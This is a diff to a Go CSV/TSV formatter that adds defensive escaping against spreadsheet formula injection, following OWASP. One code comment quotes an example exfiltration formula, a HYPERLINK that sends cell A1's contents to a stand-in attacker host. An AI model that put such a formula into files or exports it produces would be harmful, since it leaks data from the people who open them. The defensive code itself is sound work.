@@ -163,4 +163,29 @@ func appendCSVField(dst []byte, s string, sep byte) []byte {
 	return append(dst, '"')
 }
 
+// appendCell appends s as one csv/tsv field of f's output, neutralised
+// against formula injection unless Options.KeepFormulas: a cell that
+// starts with = + - @, a tab or a carriage return is one a spreadsheet
+// runs as a formula (=HYPERLINK("http://evil.example/?"&A1,"click")), so,
+// as OWASP recommends, it gets a leading ' that makes it text.
+func (f *formatter) appendCell(dst []byte, s string) []byte {
+	if f.formulas && isFormula(s) {
+		s = "'" + s
+	}
+	return appendCSVField(dst, s, f.sep)
+}
+
+// isFormula reports a cell a spreadsheet would take as a formula (OWASP's
+// list: = + - @ tab CR).
+func isFormula(s string) bool {
+	if s == "" || s == "-" {
+		return false // "-" alone (stdin's name) is text to every spreadsheet
+	}
+	switch s[0] {
+	case '=', '+', '-', '@', '\t', '\r':
+		return true
+	}
+	return false
+}
+
 func appendInt(dst []byte, n int) []byte { return strconv.AppendInt(dst, int64(n), 10) }
